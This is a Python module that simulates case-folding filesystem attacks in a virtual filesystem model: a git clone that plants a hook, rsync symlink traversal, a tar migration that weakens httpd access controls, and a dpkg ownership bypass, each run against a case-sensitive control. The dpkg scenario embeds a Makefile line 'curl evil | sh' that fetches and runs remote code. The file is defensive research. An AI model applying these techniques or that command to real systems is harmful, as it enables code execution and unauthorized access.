"""End-to-end attack scenarios built from the fixtures and utility models.

Each scenario runs once against a case-insensitive destination and reports
whether the adversary's goal was reached. Passing ``fold=False`` runs the same
steps on a case-sensitive destination as a control.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..casegen import POST_CHECKOUT, fixture_git, fixture_httpd, fixture_rsync, materialize
from ..errors import VfsError
from ..vfs import FsImage, Kind, Metadata, join_path, split_path
from . import run_model


@dataclass
class ScenarioResult:
    name: str
    compromised: bool
    summary: list[str] = field(default_factory=list)
    steps: list[str] = field(default_factory=list)
    image: FsImage | None = None

    def to_dict(self) -> dict:
        return {"name": self.name, "compromised": self.compromised, "summary": self.summary, "steps": self.steps}


def _fold_dir(image: FsImage, path: str, fold: bool, profile: str = "full-fold") -> None:
    parent = join_path(*split_path(path)[:-1]) if len(split_path(path)) > 1 else "/"
    image.mkdir(parent, split_path(path)[-1], Metadata(mode=0o755), fold_flag=fold or None,
                profile_id=profile if fold else None)


# --- git clone with a delayed checkout ------------------------------------------------


def git_cve(fold: bool = True) -> ScenarioResult:
    """Clone the repository whose tracked entries are ``A/file1``, ``A/file2``,
    ``A/post-checkout`` and a symlink ``a -> .git/hooks``. The post-checkout
    file goes through a delayed (filtered) checkout, so it is written after
    ``a`` has replaced directory ``A``."""
    tc = fixture_git()
    image = FsImage()
    _fold_dir(image, "/work", fold)
    image.makedirs("/work/repo/.git/hooks")
    steps: list[str] = []
    tracked = [s for s in tc.tree if s.path.startswith("repo/") and not s.path.startswith("repo/.git")
               and s.kind != "dir"]
    tracked.sort(key=lambda s: s.path.encode())  # index order
    delayed = []
    for step in tracked:
        if step.path.endswith("post-checkout"):
            delayed.append(step)
            steps.append(f"delay {step.path} (filter still running)")
            continue
        full = join_path("/work", step.path)
        parent = join_path(*split_path(full)[:-1])
        name = split_path(full)[-1]
        image.makedirs(parent)
        existing = image.lstat(full)
        if existing is not None:
            # The index says the path should be a different entry; clear the way.
            image.remove_tree(full)
            steps.append(f"remove {existing.kind.value} in the way of {step.path}")
        if step.kind == "symlink":
            image.symlink(parent, name, step.content)
            steps.append(f"symlink {step.path} -> {step.content}")
        else:
            image.create(parent, name, Kind.FILE, Metadata(mode=step.mode), exclusive=True, content=step.content)
            steps.append(f"write {step.path}")
    for step in delayed:
        full = join_path("/work", step.path)
        parent = join_path(*split_path(full)[:-1])
        try:
            image.create(parent, split_path(full)[-1], Kind.FILE, Metadata(mode=step.mode), content=step.content)
            image.set_meta(full, follow=True, mode=step.mode)
            steps.append(f"write delayed {step.path}")
        except VfsError as exc:
            steps.append(f"delayed {step.path} failed: {exc}")
    hook = image.lstat("/work/repo/.git/hooks/post-checkout")
    planted = hook is not None and hook.data == POST_CHECKOUT and bool(hook.meta.mode & 0o100)
    summary = ["hook .git/hooks/post-checkout planted and executable; it runs after the clone"] if planted \
        else ["no hook planted"]
    return ScenarioResult("git_cve", planted, summary, steps, image)


# --- rsync follows a symlink out of the destination ---------------------------------------


def rsync_traversal(fold: bool = True) -> ScenarioResult:
    image = FsImage()
    materialize(fixture_rsync(), image)
    _fold_dir(image, "/dst", fold)
    outcome = run_model("rsync", image, "/src", "/dst")
    final = outcome.final_image
    leaked = final.lstat("/tmp/confidential")
    steps = [f"{e.op} {e.path}" + (f" ({e.detail})" if e.detail else "") for e in outcome.events]
    compromised = leaked is not None
    summary = ["/tmp/confidential written outside the destination"] if compromised else ["nothing left /dst"]
    return ScenarioResult("rsync_traversal", compromised, summary, steps, final)


# --- httpd document root migrated with tar -------------------------------------------------


def httpd_migration(fold: bool = True, adversary: bool = True) -> ScenarioResult:
    image = FsImage()
    image.mkdir("/", "old", Metadata(mode=0o755))
    materialize(fixture_httpd(adversary), image, root="/old")
    _fold_dir(image, "/new", fold)
    image.mkdir("/new", "www", Metadata(mode=0o755))
    outcome = run_model("tar", image, "/old/www", "/new/www")
    final = outcome.final_image
    summary = []
    hidden = final.lstat("/new/www/hidden")
    if hidden is not None and hidden.meta.mode & 0o005:
        summary.append(f"hidden/ is now mode {hidden.meta.mode:o}; its contents can be listed")
    protected = final.lstat("/new/www/protected")
    if protected is not None and protected.meta.mode & 0o005:
        summary.append(f"protected/ is now mode {protected.meta.mode:o}")
    htaccess = final.lstat("/new/www/protected/.htaccess")
    if htaccess is not None and b"Require" not in htaccess.data:
        summary.append("protected/.htaccess no longer requires authentication")
    steps = [f"{e.op} {e.path}" for e in outcome.events]
    return ScenarioResult("httpd_migration", bool(summary), summary or ["permissions preserved"], steps, final)


# --- dpkg's bytewise file-ownership check ---------------------------------------------------


@dataclass
class PackageDb:
    owners: dict[str, str] = field(default_factory=dict)  # path -> package

    def conflicts(self, package: str, paths: list[str]) -> list[str]:
        return [p for p in paths if self.owners.get(p, package) != package]


def dpkg_db(fold: bool = True) -> ScenarioResult:
    """Install a package owning ``/usr/share/doc/tool/makefile``, then one
    shipping ``Makefile`` in the same directory. The ownership check compares
    paths bytewise, so the second install is allowed and overwrites the file."""
    image = FsImage()
    image.makedirs("/usr/share")
    _fold_dir(image, "/usr/share/doc", fold)
    image.makedirs("/usr/share/doc/tool")
    db = PackageDb()
    steps = []

    def install(package: str, files: dict[str, bytes]) -> None:
        clash = db.conflicts(package, list(files))
        if clash:
            steps.append(f"{package}: refused, conflicts on {', '.join(clash)}")
            return
        for path, data in files.items():
            parent, name = path.rsplit("/", 1)
            image.create(parent, name, Kind.FILE, Metadata(mode=0o644), content=data)
            db.owners[path] = package
            steps.append(f"{package}: unpack {path}")

    good = {"/usr/share/doc/tool/makefile": b"all:\n\techo build\n"}
    install("tool", good)
    install("evil", {"/usr/share/doc/tool/Makefile": b"all:\n\tcurl evil | sh\n"})
    current = image.read("/usr/share/doc/tool/makefile")
    compromised = current != good["/usr/share/doc/tool/makefile"]
    summary = ["tool's makefile was overwritten by package evil; the database still lists it as tool's"] \
        if compromised else ["tool's files intact"]
    return ScenarioResult("dpkg_db", compromised, summary, steps, image)


SCENARIOS = {
    "git_cve": git_cve,
    "rsync_traversal": rsync_traversal,
    "httpd_migration": httpd_migration,
    "dpkg_db": dpkg_db,
}


def run_scenario(name: str, fold: bool = True) -> ScenarioResult:
    if name not in SCENARIOS:
        raise KeyError(f"unknown scenario {name!r}; choose from {', '.join(SCENARIOS)}")
    return SCENARIOS[name](fold=fold)
